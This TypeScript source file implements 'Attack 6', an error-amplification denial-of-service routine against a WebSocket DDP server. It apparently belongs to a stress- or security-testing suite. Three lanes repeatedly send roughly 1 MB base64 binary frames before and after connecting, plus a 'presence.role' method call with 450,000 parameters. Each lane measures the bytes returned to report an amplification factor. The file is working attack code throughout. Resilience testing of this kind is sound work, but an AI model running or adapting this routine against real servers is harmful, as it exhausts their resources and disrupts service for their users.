/**
 * Attack 6: frames built to make error replies expensive, each sent in
 * lockstep (the next once the reply came):
 *   - `{"msg":"x","params":[{"$binary":"<~1 MB base64>"}]}` before `connect`
 *     ("Must connect first") and after it ("Bad request"): EJSON decodes the
 *     binary and an echoing reply encodes it again;
 *   - `presence.role` called with 450,000 params.
 * Reports bytes sent and bytes received, i.e. the amplification factor.
 */
import { randomBytes } from 'node:crypto';
import type WebSocket from 'ws';
import type { Deadline } from './deadline';
import { ErrorTally } from './error-tally';
import type { AttackReport, AttackSizes, AttackTarget } from './types';
import { nextMessage, openDdpSession, openWebSocket } from './ws-client';

const BINARY_FRAME = JSON.stringify({ msg: 'x', params: [{ $binary: randomBytes(780_000).toString('base64') }] });
const METHOD_PARAMS = 450_000;
const methodFrame = (id: string) => `{"msg":"method","id":"${id}","method":"presence.role","params":[${'0,'.repeat(METHOD_PARAMS - 1)}0]}`;
const REPLY_CAP_MS = 5000;

interface Lane {
  name: string;
  open(): Promise<WebSocket>;
  frame(n: number): string;
  isReply(text: string): boolean;
}

export async function errorAmplification(target: AttackTarget, _sizes: AttackSizes, deadline: Deadline): Promise<AttackReport> {
  const errors = new ErrorTally();
  const stats = { sent: 0, bytesOut: 0, bytesIn: 0, replies: 0, timeouts: 0, closes: 0 };
  const url = `ws://${target.host}:${target.port}/websocket`;
  const lanes: Lane[] = [
    { name: 'binary before connect', open: () => openWebSocket(url, target.localAddress, deadline), frame: () => BINARY_FRAME, isReply: (t) => t.startsWith('{"msg":"error"') },
    { name: 'binary after connect', open: () => openDdpSession(target, deadline), frame: () => BINARY_FRAME, isReply: (t) => t.startsWith('{"msg":"error"') },
    { name: 'presence.role × 450,000 params', open: () => openDdpSession(target, deadline), frame: (n) => methodFrame(`m${n}`), isReply: (t) => t.startsWith('{"msg":"result"') || t.startsWith('{"msg":"error"') },
  ];
  const run = async (lane: Lane) => {
    let ws: WebSocket | null = null;
    while (!deadline.done) {
      try {
        if (!ws) {
          ws = await lane.open();
          ws.on('message', (data: Buffer) => void (stats.bytesIn += data.length));
        }
        const frame = lane.frame(stats.sent);
        ws.send(frame);
        stats.sent++;
        stats.bytesOut += frame.length;
        const got = await nextMessage(ws, lane.isReply, deadline, REPLY_CAP_MS);
        if ('text' in got) stats.replies++;
        else if ('timeout' in got && !deadline.done) stats.timeouts++;
        else if ('closed' in got) (stats.closes++, (ws = null));
      } catch (error) {
        if (deadline.done) break;
        errors.add(error);
        ws?.terminate();
        ws = null;
        await deadline.sleep(100);
      }
    }
    ws?.terminate();
  };
  await Promise.all(lanes.map(run));
  const amplification = stats.bytesOut ? (stats.bytesIn / stats.bytesOut).toPrecision(2) : '–';
  return {
    sent: stats.sent, unit: 'frames of ~1 MB', errors: errors.count, firstError: errors.first,
    detail: `${stats.sent} frames (${mb(stats.bytesOut)} out), ${stats.replies} replies (${mb(stats.bytesIn)} back, ×${amplification}), ${stats.timeouts} unanswered in 5 s, ${stats.closes} closed by server`,
  };
}

const mb = (bytes: number) => (bytes >= 1024 ** 2 ? `${(bytes / 1024 ** 2).toFixed(0)} MB` : `${(bytes / 1024).toFixed(1)} KB`);
